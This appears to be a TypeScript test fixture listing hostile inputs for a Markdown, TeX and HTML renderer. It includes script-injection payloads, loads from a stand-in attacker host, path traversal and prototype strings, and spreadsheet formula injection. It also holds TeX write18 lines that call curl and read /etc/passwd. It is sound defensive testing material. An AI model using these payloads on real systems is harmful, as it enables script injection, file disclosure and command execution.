/** A host that no test may ask for anything. */
export const ATTACKER = 'https://attack.invalid';

/** What a payload does when it runs: it leaves a mark, and opens a dialog. */
export const ATTACK = 'window.__pwned=1;alert(1)';

/**
 * Texts that do harm where a page, a file or a program takes them for more than text, by what they attack. Each is one line,
 * so that every format can hold it.
 */
export const PAYLOADS: Readonly<Record<string, string>> = {
  script: `<script>${ATTACK}</script>`,
  'script from afar': `<script src="${ATTACKER}/x.js"></script>`,
  'event handler': `<img src=x onerror="${ATTACK}">`,
  'picture from afar': `<img src="${ATTACKER}/p.png" srcset="${ATTACKER}/q.png 2x">`,
  drawing: `<svg onload="${ATTACK}"><animate onbegin="${ATTACK}" attributeName=x dur=1s></svg>`,
  frame: `<iframe src="javascript:${ATTACK}" srcdoc="<script>${ATTACK}</script>"></iframe>`,
  style: `<style>@import url(${ATTACKER}/a.css);*{background:url(${ATTACKER}/b.png)}</style>`,
  'style attribute': `<b style="background:url(${ATTACKER}/c.png)">bold</b>`,
  attribute: `" autofocus tabindex=1 onfocus="${ATTACK}" x="`,
  'single quotes': `' autofocus tabindex=1 onfocus='${ATTACK}' x='`,
  'closing tags': `</title></textarea></style></script></template><script>${ATTACK}</script>`,
  comment: `--><script>${ATTACK}</script><!--`,
  cdata: `]]><script>${ATTACK}</script><![CDATA[`,
  'nested comment': `<!--<script>${ATTACK}</script>`,
  refresh: `<meta http-equiv=refresh content="0;url=${ATTACKER}/"><base href="${ATTACKER}/">`,
  'embedded pages': `<link rel=stylesheet href=${ATTACKER}/a.css><object data=${ATTACKER}/o><embed src=${ATTACKER}/e>`,
  form: `<form action=${ATTACKER}><button formaction="javascript:${ATTACK}">go</button></form>`,
  'formula with markup': `<math><mtext><style><img src=x onerror=${ATTACK}></style></mtext></math>`,
  entities: `&lt;script&gt;${ATTACK}&lt;/script&gt; &#60;img src=x onerror=${ATTACK}&#62;`,
  'doubled entities': `&amp;lt;script&amp;gt;${ATTACK}&amp;lt;/script&amp;gt;`,
  expression: `{(()=>{globalThis.__pwned=1})()} {alert(1)} <Broken onClick={alert} />`,
  'import of a module': `import x from '${ATTACKER}/x.js'; export const y = await import('${ATTACKER}/y.js')`,
  'Markdown link': `[click](javascript:${ATTACK}) ![seen](${ATTACKER}/i.png) <javascript:${ATTACK}>`,
  'link in words': `javascript:${ATTACK} data:text/html,<script>${ATTACK}</script> ${ATTACKER}/"onfocus="${ATTACK}`,
  template: '{title} {count} {query} ${alert(1)} {{constructor.constructor("alert(1)")()}} <%= alert(1) %>',
  prototype: '__proto__ constructor toString hasOwnProperty',
  path: '../../%2e%2e%2f..%5c..%00 con nul',
  YAML: `: - "x" # {a: [b, *c, &d !!js/function 'alert(1)'`,
  formula: `=HYPERLINK("${ATTACKER}","x") +1 -1 @SUM(1)`,
  directions: 'left \u202egnp.exe\u202c \u2066to\u2069 \u200fright\u200e',
  controls: 'nul \u0000 esc \u001b[31m\u001b]0;x\u0007 back \u0008 del \u007f next \u0085 end',
  surrogates: 'high \ud800 low \udc00 end',
  separators: 'line \u2028 paragraph \u2029 feed \u000c tab \u000b end',
  'TeX shell': `$\\immediate\\write18{curl ${ATTACKER}}$ \\write18{ls} \\input{/etc/passwd} \\openout1=x`,
  'TeX definition':
    '$\\def\\x{\\x\\x}\\x$ $\\gdef\\section{\\input{/etc/passwd}}$ \\let\\title\\relax \\catcode`\\%=11',
  'TeX link': `$\\href{javascript:${ATTACK}}{x}$ \\href{javascript:${ATTACK}}{y} \\url{javascript:${ATTACK}}`,
  'TeX in pages': `$\\htmlData{onclick=${ATTACK}}{x} \\style{background:url(${ATTACKER}/d.png)}{y} \\class{z}{z}$`,
  'TeX picture': `$\\includegraphics{${ATTACKER}/a.png} \\htmlId{search}{x} \\tag{<img src=x onerror=${ATTACK}>}$`,
  'TeX comment': 'half of it % and the rest } is \\end{document} gone \\',
  'BibTeX entry': `} , note = {x} } @preamble{"\\write18{curl ${ATTACKER}}"} @comment{ @string{a = "b"}`,
};

/** Addresses that no page may link to as they are. */
export const HOSTILE_ADDRESSES = [
  `javascript:${ATTACK}`,
  `JaVaScRiPt\t:${ATTACK}`,
  `data:text/html,<script>${ATTACK}</script>`,
  `vbscript:${ATTACK}`,
  'file:///etc/passwd',
  `//attack.invalid/x`,
  `${ATTACKER}/"><script>${ATTACK}</script>`,
  `${ATTACKER}/' onfocus='${ATTACK}`,
  `${ATTACKER}/}\\write18{ls}%0a%00`,
  `https://user:word@attack.invalid:99999/`,
] as const;

/** Ids that are none, or that leave the folder of their page; `ID` stands for a valid one. */
export const HOSTILE_IDS = [
  '../../index',
  'ID%2f..%2f..',
  '..%5c..%5cindex',
  '__proto__',
  `"><script>${ATTACK}</script>`,
  'IDv1\u0000',
  'math/../../x',
  'con',
] as const;
